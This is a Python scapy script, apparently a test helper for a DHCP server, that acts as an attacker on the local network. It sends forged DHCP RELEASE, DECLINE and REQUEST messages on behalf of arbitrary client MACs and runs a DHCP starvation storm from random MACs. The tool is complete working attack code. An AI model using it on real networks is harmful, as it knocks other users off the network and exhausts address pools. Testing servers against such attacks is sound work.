"""A hostile machine on the segment, built with scapy: forged DHCP messages and a starvation run.

    python hostile.py IFACE send TYPE --chaddr MAC [--client-id HEX] [--requested IP]
                                        [--server-id IP] [--ciaddr IP] [--wait S]
    python hostile.py IFACE storm --count N [--wait S]

``send`` broadcasts one DECLINE, RELEASE or REQUEST and prints every reply to it as a JSON
line. ``storm`` sends N DISCOVERs, each from a new random MAC, as fast as it can and prints
{"sent": N, "seconds": how long sending took, "offers": K, "offered": [addresses]}.
"""

from __future__ import annotations

import argparse
import json
import os
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, get_if_hwaddr, sendp, sniff


def frame(src_mac: str, chaddr: bytes, xid: int, options: list[object], ciaddr: str) -> object:
    return (
        Ether(src=src_mac, dst="ff:ff:ff:ff:ff:ff")
        / IP(src=ciaddr, dst="255.255.255.255")
        / UDP(sport=68, dport=67)
        / BOOTP(op=1, xid=xid, chaddr=chaddr, ciaddr=ciaddr, flags=0x8000)
        / DHCP(options=[*options, "end"])
    )


def reply_type(pkt: object) -> str:
    for item in pkt[DHCP].options:  # type: ignore[index]
        if isinstance(item, tuple) and item[0] == "message-type":
            return {2: "offer", 5: "ack", 6: "nak"}.get(int(item[1]), str(item[1]))
    return "?"


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("send")
    s.add_argument("type", choices=["decline", "release", "request"])
    s.add_argument("--chaddr", required=True)
    s.add_argument("--client-id")
    s.add_argument("--requested")
    s.add_argument("--server-id")
    s.add_argument("--ciaddr", default="0.0.0.0")
    s.add_argument("--wait", type=float, default=2.0)
    st = sub.add_parser("storm")
    st.add_argument("--count", type=int, required=True)
    st.add_argument("--wait", type=float, default=3.0)
    args = ap.parse_args()
    conf.verb = 0
    own = get_if_hwaddr(args.iface)

    if args.cmd == "send":
        chaddr = bytes.fromhex(args.chaddr.replace(":", ""))
        xid = int.from_bytes(os.urandom(4), "big")
        kind = {"decline": 4, "release": 7, "request": 3}[args.type]
        options: list[object] = [("message-type", kind)]
        if args.client_id:
            options.append(("client_id", bytes.fromhex(args.client_id)))
        if args.requested:
            options.append(("requested_addr", args.requested))
        if args.server_id:
            options.append(("server_id", args.server_id))
        pkt = frame(own, chaddr, xid, options, args.ciaddr)
        replies = sniff(
            iface=args.iface,
            filter="udp and dst port 68",
            timeout=args.wait,
            started_callback=lambda: sendp(pkt, iface=args.iface),
            lfilter=lambda p: BOOTP in p and p[BOOTP].op == 2 and p[BOOTP].xid == xid,
        )
        for r in replies:
            print(json.dumps({"type": reply_type(r), "yiaddr": r[BOOTP].yiaddr}))
        return

    xids = {int.from_bytes(os.urandom(4), "big") for _ in range(args.count)}
    frames = []
    for xid in xids:
        mac = bytes([0x02]) + os.urandom(5)
        frames.append(frame(own, mac, xid, [("message-type", "discover")], "0.0.0.0"))
    took: list[float] = []

    def storm() -> None:
        start = time.monotonic()
        sendp(frames, iface=args.iface)
        took.append(time.monotonic() - start)

    offers = sniff(
        iface=args.iface,
        filter="udp and dst port 68",
        timeout=args.wait + args.count / 200,
        started_callback=storm,
        lfilter=lambda p: BOOTP in p and p[BOOTP].op == 2 and p[BOOTP].xid in xids,
    )
    offered = sorted({r[BOOTP].yiaddr for r in offers})
    print(
        json.dumps(
            {"sent": len(frames), "seconds": took[0], "offers": len(offers), "offered": offered}
        )
    )


if __name__ == "__main__":
    main()
